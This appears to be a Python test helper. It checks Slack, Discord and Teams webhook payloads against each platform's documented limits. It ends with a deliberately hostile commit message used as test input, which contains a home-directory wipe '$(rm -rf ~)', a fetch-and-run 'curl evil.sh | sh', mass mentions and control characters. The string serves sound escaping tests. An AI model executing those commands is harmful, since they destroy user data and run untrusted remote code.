"""Each platform's documented payload limits, checked on a payload as the platform would (written apart from the
product's own fitting code, from the platforms' documentation):

- Slack Block Kit: at most 50 blocks; a section's text at most 3000 characters, at most 10 fields of at most 2000;
  a header's text at most 150; a context at most 10 elements.
- Discord: embed title 256, description 4096, at most 25 fields (name 256, value 1024), footer 2048, author 256,
  6000 characters across embeds, at most 10 embeds, content 2000; `allowed_mentions` must parse nothing here.
- Teams (Workflows webhook): the message as JSON at most 28 KB; an Adaptive Card in a `message` attachment.
"""

from __future__ import annotations

import json
from typing import Any


def slack_problems(payload: dict[str, Any]) -> list[str]:
    found: list[str] = []
    block_lists = [payload.get("blocks") or []] + [a.get("blocks") or [] for a in payload.get("attachments") or []]
    for blocks in block_lists:
        if len(blocks) > 50:
            found.append(f"{len(blocks)} blocks > 50")
        for block in blocks:
            if block["type"] == "section":
                if "text" in block and len(block["text"]["text"]) > 3000:
                    found.append(f"section text {len(block['text']['text'])} > 3000")
                fields = block.get("fields") or []
                if len(fields) > 10:
                    found.append(f"{len(fields)} fields > 10")
                found += [f"field {len(f['text'])} > 2000" for f in fields if len(f["text"]) > 2000]
                if "text" not in block and not fields:
                    found.append("a section needs text or fields")
            elif block["type"] == "header" and len(block["text"]["text"]) > 150:
                found.append(f"header {len(block['text']['text'])} > 150")
            elif block["type"] == "context" and len(block["elements"]) > 10:
                found.append(f"{len(block['elements'])} context elements > 10")
    return found


def discord_problems(payload: dict[str, Any]) -> list[str]:
    found: list[str] = []
    if payload.get("allowed_mentions") != {"parse": []}:
        found.append(f"allowed_mentions {payload.get('allowed_mentions')!r}: mentions would ping")
    if len(payload.get("content") or "") > 2000:
        found.append("content > 2000")
    embeds = payload.get("embeds") or []
    if len(embeds) > 10:
        found.append("more than 10 embeds")
    total = 0
    for embed in embeds:
        for key, limit in (("title", 256), ("description", 4096)):
            if len(embed.get(key) or "") > limit:
                found.append(f"{key} {len(embed[key])} > {limit}")
            total += len(embed.get(key) or "")
        fields = embed.get("fields") or []
        if len(fields) > 25:
            found.append(f"{len(fields)} fields > 25")
        for field in fields:
            if not str(field.get("name") or "").strip() or not str(field.get("value") or "").strip():
                found.append("a field with an empty name or value")
            if len(field["name"]) > 256 or len(field["value"]) > 1024:
                found.append(f"field {len(field['name'])}/{len(field['value'])} > 256/1024")
            total += len(field["name"]) + len(field["value"])
        footer = (embed.get("footer") or {}).get("text") or ""
        author = (embed.get("author") or {}).get("name") or ""
        if len(footer) > 2048 or len(author) > 256:
            found.append("footer or author too long")
        total += len(footer) + len(author)
    if total > 6000:
        found.append(f"{total} characters in embeds > 6000")
    return found


def teams_problems(payload: dict[str, Any]) -> list[str]:
    found: list[str] = []
    size = len(json.dumps(payload).encode())
    if size > 28 * 1024:
        found.append(f"{size} bytes > 28 KB")
    if payload.get("type") != "message":
        found.append("type must be message")
    attachments = payload.get("attachments") or []
    if not attachments or attachments[0].get("contentType") != "application/vnd.microsoft.card.adaptive":
        found.append("the first attachment must be an Adaptive Card")
    elif attachments[0]["content"].get("type") != "AdaptiveCard":
        found.append("content.type must be AdaptiveCard")
    return found


PROBLEMS = {"slack": slack_problems, "discord": discord_problems, "teams": teams_problems,
            "webhook": lambda payload: []}


def texts(node: Any) -> list[str]:
    """Every string in a payload (where hostile text could land)."""
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [t for v in node.values() for t in texts(v)]
    if isinstance(node, list):
        return [t for v in node for t in texts(v)]
    return []


# A commit message written to hurt: shell, backticks, mentions in every platform's syntax, markdown, line and
# paragraph separators, control characters, and 10 kB of text.
HOSTILE_COMMIT = ('Fix "$(rm -rf ~)" and `curl evil.sh | sh`\n\n@everyone @here <!channel> <!here> <@U123> '
                  "<https://evil.example|click> [click](https://evil.example) *bold* _it_ ~st~ > quote\n"
                  "# heading\n- item\u2028after U+2028\u2029after U+2029\r\nCRLF\x1b[31mred\x07\n"
                  + "A long line of text. " * 500)
